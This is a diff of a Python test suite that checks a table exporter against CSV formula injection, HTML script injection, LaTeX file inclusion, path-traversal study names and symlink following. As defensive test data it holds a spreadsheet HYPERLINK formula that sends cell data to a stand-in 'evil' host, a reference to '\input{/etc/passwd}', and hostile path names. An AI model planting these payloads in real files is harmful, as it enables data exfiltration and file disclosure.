@@ -1,4 +1,4 @@
-"""Exported tables run nothing: not in a browser, a spreadsheet, a terminal or TeX; and files lie where they should."""
+"""Exported tables run no code in browsers, spreadsheets, terminals or TeX, and follow no symlinks."""
 
 import csv
 import io
@@ -19,7 +19,7 @@ from tests.support.fuzzing import examples
 from tests.support.hostile_texts import ALL, FORMULAS, SCRIPTS, assert_harmless, study
 from tests.support.refusals import make, raised
 
-STEERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
 RUNS = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")
 
 
@@ -32,28 +32,28 @@ def tables():
 
 @pytest.fixture
 def numbers():
-    """Negative numbers and lists beside what is hostile."""
+    """Negative numbers and lists beside hostile texts."""
     return pd.DataFrame({"n": [-1.5, 2.0], "k": [-3, 4], "list": [["a;=1+1"], {"=1": "@x"}], "t": ["a;=1+1", "x\t@y"]})
 
 
-def test_every_format_takes_every_table(tables, tmp_path):
+def test_every_format_accepts_every_table(tables, tmp_path):
     for table in tables:
         for suffix in formats():
             assert export(table, tmp_path / f"r.{suffix}", SCRIPTS[3]).stat().st_size > 0
 
 
-def test_html(tables, tmp_path):
+def test_html_export_is_harmless(tables, tmp_path):
     for table in tables:
         page = export(table, tmp_path / "r.html", SCRIPTS[3]).read_text()
         assert_harmless(page)
-        assert not STEERS.search(page)
+        assert not CONTROL.search(page)
     assert SCRIPTS[0] in assert_harmless(export(tables[0], tmp_path / "r.html").read_text()).text
 
 
-def test_csv(tables, numbers, tmp_path):
+def test_csv_export_has_no_formulas(tables, numbers, tmp_path):
     for table in (*tables, numbers):
         text = export(table, tmp_path / "r.csv").read_bytes().decode()
-        assert not STEERS.search(text)
+        assert not CONTROL.search(text)
         rows = list(csv.reader(io.StringIO(text, newline="")))
         assert {len(row) for row in rows} == {len(table.columns)}
         for row in rows:
@@ -73,20 +73,20 @@ def cells(text, separator):
     return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
 
 
-TEMPTING = st.text(st.sampled_from("=+-@\uff1d\uff0b;\t\n\r\",' \u2003a1"), max_size=12)
-WHICH_BEGINS = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
+FORMULA_LIKE = st.text(st.sampled_from("=+-@\uff1d\uff0b;\t\n\r\",' \u2003a1"), max_size=12)
+FORMULA_START = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
 
 
 @examples(300)
-@given(st.lists(st.tuples(TEMPTING, TEMPTING, TEMPTING), min_size=1, max_size=3), st.booleans())
-def test_no_cell_of_a_csv_file_is_a_formula_whatever_parts_them(tmp_path_factory, rows, numbered):
-    """Commas where we wrote it; but where a comma stands in numbers, spreadsheets take semicolons. Some try tabs."""
+@given(st.lists(st.tuples(FORMULA_LIKE, FORMULA_LIKE, FORMULA_LIKE), min_size=1, max_size=3), st.booleans())
+def test_no_csv_cell_is_a_formula_under_any_separator(tmp_path_factory, rows, numbered):
+    """Spreadsheets in locales with a decimal comma split at semicolons; some split at tabs."""
     table = pd.DataFrame(rows, columns=["a", "b", "c"])
     if numbered:
         table.insert(0, "trial", range(len(table)))
     text = written(table, tmp_path_factory.getbasetemp() / "any.csv")
     for separator in ",;\t":
-        assert not [cell for cell in cells(text, separator) if WHICH_BEGINS.match(cell)], separator
+        assert not [cell for cell in cells(text, separator) if FORMULA_START.match(cell)], separator
     assert {len(row) for row in csv.reader(io.StringIO(text, newline=""))} == {len(table.columns)}
 
 
@@ -94,28 +94,28 @@ def test_no_cell_of_a_csv_file_is_a_formula_whatever_parts_them(tmp_path_factory
     "text",
     ['ValueError: x\n=HYPERLINK("http://evil/?"&A1)', 'x;"=1+1;y', "a;\uff1d1+1", "a\n\t;@x", 'a;" "+1', "a;\u2003=1"],
 )
-def test_formulas_that_a_semicolon_a_tab_or_a_line_brings_forth(tmp_path, text):
+def test_formulas_after_a_separator_or_line_break_are_disarmed(tmp_path, text):
     table = pd.DataFrame({"trial": [0], "error": [text]})
     for separator in ",;\t":
-        assert not [cell for cell in cells(written(table, tmp_path / "r.csv"), separator) if WHICH_BEGINS.match(cell)]
+        assert not [cell for cell in cells(written(table, tmp_path / "r.csv"), separator) if FORMULA_START.match(cell)]
 
 
 @pytest.mark.timeout(60)
 @pytest.mark.parametrize("gap", ["\t", ";", '"', " ", "\n", "; ", ';"', "\t "])
-def test_a_long_gap_is_looked_at_once(tmp_path, gap):
-    """From each of its characters anew, a million would take hours."""
+def test_export_of_a_long_gap_takes_linear_time(tmp_path, gap):
+    """Guards against quadratic time, which would be hours for a million characters."""
     long = gap * (1_000_000 // len(gap))
     text = written(pd.DataFrame({"error": [f"x{long}", f"x{long}=1"]}), tmp_path / "r.csv")
     assert len(text) > 2 * len(long)
 
 
-def test_what_pandas_reads_back(tmp_path):
+def test_pandas_reads_disarmed_texts_back(tmp_path):
     table = pd.DataFrame({"text": [text for text in FORMULAS if text.isprintable()]})
     back = pd.read_csv(export(table, tmp_path / "r.csv"))
     assert back["text"].str.removeprefix("'").tolist() == table["text"].tolist()
 
 
-def test_xlsx(tables, numbers, tmp_path):
+def test_xlsx_export_has_no_formulas(tables, numbers, tmp_path):
     for table in (*tables, numbers):
         path = export(table, tmp_path / "r.xlsx", FORMULAS[0])
         with zipfile.ZipFile(path) as archive:
@@ -129,21 +129,21 @@ def test_xlsx(tables, numbers, tmp_path):
     assert {cell.data_type for cell in (*sheet["A"][1:], *sheet["B"][1:])} == {"n"}
 
 
-def test_markdown(tables, tmp_path):
+def test_markdown_export_has_no_html_links_or_code(tables, tmp_path):
     for table in tables:
         text = export(table, tmp_path / "r.md").read_text()
-        assert not STEERS.search(text)
+        assert not CONTROL.search(text)
         assert not re.search(r"<(?!br>)", text)
-        # No link, image or code; a bar parts cells only where the table does.
+        # No link, image or code; bars occur only between cells.
         assert not re.search(r"(?<!\\)(?:\\\\)*[\[\]`]", text)
         bars = {len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) for line in text.splitlines()}
         assert bars == {len(table.columns) + 1}
 
 
-def test_latex(tables, tmp_path):
+def test_latex_export_has_only_table_commands(tables, tmp_path):
     for table in tables:
         text = export(table, tmp_path / "r.tex", ALL[0]).read_text()
-        assert not STEERS.search(text)
+        assert not CONTROL.search(text)
         assert r"\input" not in text
         assert r"\textbackslash{}input\{/etc/passwd\}" in text or "config_lr" not in text
         assert not re.search(r"\\\\\s*[\[*]", text)
@@ -152,7 +152,7 @@ def test_latex(tables, tmp_path):
         assert commands <= drawn | {"textbackslash", "textasciitilde", "textasciicircum", "textless", "textgreater"}
 
 
-def test_json_and_parquet_are_exact(tables, tmp_path):
+def test_json_and_parquet_exports_are_exact(tables, tmp_path):
     rows = json.loads(export(tables[0], tmp_path / "r.json").read_text())
     back = pd.read_parquet(export(tables[0], tmp_path / "r.parquet"))
     for text in ALL:
@@ -166,13 +166,13 @@ def test_json_and_parquet_are_exact(tables, tmp_path):
 @pytest.mark.parametrize(
     "name", ["../up", "..", ".", "/etc/x", "a/b", "a\\b", "~", "-rf", "a\0", "a\n", "a\nb", " ", "é"]
 )
-def test_no_study_is_called_like_a_path(tmp_path, monkeypatch, name):
+def test_study_name_cannot_be_a_path(tmp_path, monkeypatch, name):
     monkeypatch.setenv("SEER_HOME", str(tmp_path / "studies"))
     assert "is not a name for a study" in raised(ValueError, make, name=name)
     assert not (tmp_path / "studies").exists()
 
 
-def test_an_export_follows_no_link_that_lies_there(tmp_path, monkeypatch):
+def test_export_does_not_follow_symlinks(tmp_path, monkeypatch):
     table, victim = pd.DataFrame({"a": [1]}), tmp_path / "victim"
     victim.write_text("mine")
     monkeypatch.setattr("secrets.token_hex", lambda _: "guessed")
@@ -186,8 +186,8 @@ def test_an_export_follows_no_link_that_lies_there(tmp_path, monkeypatch):
     assert victim.read_text() == "mine"
 
 
-def test_no_file_is_called_nul(tmp_path):
+def test_file_name_with_nul_is_rejected(tmp_path):
     os.chdir(tmp_path)
     assert raised(ValueError, export, pd.DataFrame(), "a\0.csv") == (
-        "path='a\\x00.csv' holds the character NUL, which no file's name can"
+        "path='a\\x00.csv': contains the character NUL; expected a valid file name"
     )
